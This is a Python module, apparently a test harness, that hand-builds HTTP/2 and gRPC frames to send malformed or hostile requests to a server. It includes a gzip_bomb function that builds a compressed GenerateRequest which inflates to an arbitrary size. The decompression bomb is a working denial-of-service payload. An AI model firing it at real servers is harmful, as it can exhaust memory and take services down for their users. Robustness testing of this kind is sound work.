"""Enough of HTTP/2 and gRPC, by hand, to misbehave. Standard library only."""

import gzip
import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    size = struct.pack(">I", len(payload))[1:]
    return size + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(pairs):
    """HPACK: every field literal, without an index."""
    block = b""
    for name, value in pairs:
        block += b"\x00" + bytes([len(name)]) + name.encode()
        block += bytes([len(value)]) + value.encode()
    return block


def message(payload, compressed):
    return bytes([compressed]) + struct.pack(">I", len(payload)) + payload


def gzip_bomb(inflated_bytes):
    """A GenerateRequest whose prompt inflates to so many zeros."""
    size = inflated_bytes
    varint = b""
    while size > 127:
        varint += bytes([size & 127 | 128])
        size >>= 7
    varint += bytes([size])
    return gzip.compress(b"\x0a" + varint + bytes(inflated_bytes), 9)


def connect(address):
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=30)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def call(connection, stream, path, body, extra=()):
    """Sends a unary request whole."""
    block = headers([
        (":method", "POST"), (":scheme", "http"), (":path", path),
        (":authority", "test"), ("content-type", "application/grpc"),
        ("te", "trailers"), *extra])
    connection.sendall(frame(HEADERS, END_HEADERS, stream, block))
    step = 16384
    for begin in range(0, len(body), step):
        end = END_STREAM if begin + step >= len(body) else 0
        connection.sendall(
            frame(DATA, end, stream, body[begin:begin + step]))


def frames(connection):
    """Frames as they come: (kind, flags, stream, payload). Answers pings."""
    read = connection.makefile("rb")
    while True:
        head = read.read(9)
        if len(head) < 9:
            return
        size = int.from_bytes(head[:3], "big")
        kind, flags = head[3], head[4]
        stream = int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
        payload = read.read(size)
        if kind in (SETTINGS, PING) and not flags & ACK:
            connection.sendall(
                frame(kind, ACK, 0, payload if kind == PING else b""))
        yield kind, flags, stream, payload


def await_end(connection, stream):
    """Waits until the server ends the stream; the last headers as bytes."""
    for kind, flags, of, payload in frames(connection):
        if of != stream:
            continue
        if kind == RST_STREAM:
            return b"reset"
        if kind == HEADERS and flags & END_STREAM:
            return payload
    return b"closed"
